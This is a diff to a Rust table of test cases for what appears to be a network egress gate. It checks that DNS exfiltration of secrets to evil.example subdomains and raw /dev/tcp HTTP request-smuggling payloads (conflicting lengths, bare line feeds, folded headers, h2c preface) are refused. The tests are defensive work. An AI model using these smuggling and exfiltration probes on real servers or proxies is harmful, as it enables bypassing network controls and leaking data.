@@ -55,10 +55,10 @@ const ROWS: &[Row] = &[
     Row::new("a private network", "req http://10.0.0.1/; req http://192.168.1.1/", &[])
         .each(&[("x-bb-deny: ip_literal", 2)]),
     Row::new("the gate itself", "try tcp 198.18.0.3 22; try tcp 198.18.0.3 8080", &[]).each(&[("ECONNREFUSED", 2)]),
-    Row::new("DNS over UDP elsewhere, with a secret", "try dns 8.8.8.8 udp s3cr3t-1.evil.example 16", &["rcode 5"])
+    Row::new("DNS over UDP elsewhere, with a secret", "try dns 8.8.8.8 udp s3cr3t-1.evil.example 16", &["rcode 0"])
         .denied("protocol_unknown", "s3cr3t-1.evil.example.")
         .twin("try dns 8.8.8.8 udp good.example 1 | fine 'address 198.1[89]'"),
-    Row::new("DNS over TCP elsewhere, with a secret", "try dns 8.8.8.8 tcp s3cr3t-2.evil.example 16", &["rcode 5"])
+    Row::new("DNS over TCP elsewhere, with a secret", "try dns 8.8.8.8 tcp s3cr3t-2.evil.example 16", &["rcode 0"])
         .denied("protocol_unknown", "s3cr3t-2.evil.example.")
         .twin("try dns 8.8.8.8 tcp good.example 1 | fine 'address 198.1[89]'"),
     Row::new("DNS over IPv6", "try dns 2001:4860:4860::8888 udp s3cr3t-3.evil.example 1", &["address 198.1"]),
@@ -129,7 +129,28 @@ const ROWS: &[Row] = &[
     Row::new(
         "a smuggled request: length and chunks",
         "exec 3<>/dev/tcp/good.example/80; printf 'POST /x HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 1 cat <&3; true",
-        &["HTTP/1.1 "],
+        &["HTTP/1.1 400"],
+    )
+    .denied("protocol_unknown", ""),
+    Row::new(
+        "a smuggled request: two lengths",
+        "exec 3<>/dev/tcp/good.example/80; printf 'POST /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 1\\r\\nContent-Length: 1\\r\\n\\r\\nx' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
+        &["HTTP/1.1 400"],
+    ),
+    Row::new(
+        "a smuggled request: a bare line feed",
+        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\nX: y\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
+        &["HTTP/1.1 400"],
+    ),
+    Row::new(
+        "a smuggled request: a folded header",
+        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nX: y\\r\\n Host: evil.example\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
+        &["HTTP/1.1 400"],
+    ),
+    Row::new(
+        "HTTP/2 without TLS, known beforehand",
+        "exec 3<>/dev/tcp/good.example/80; printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
+        &["HTTP/1.1 400"],
     ),
     Row::new(
         "CONNECT through the plane",
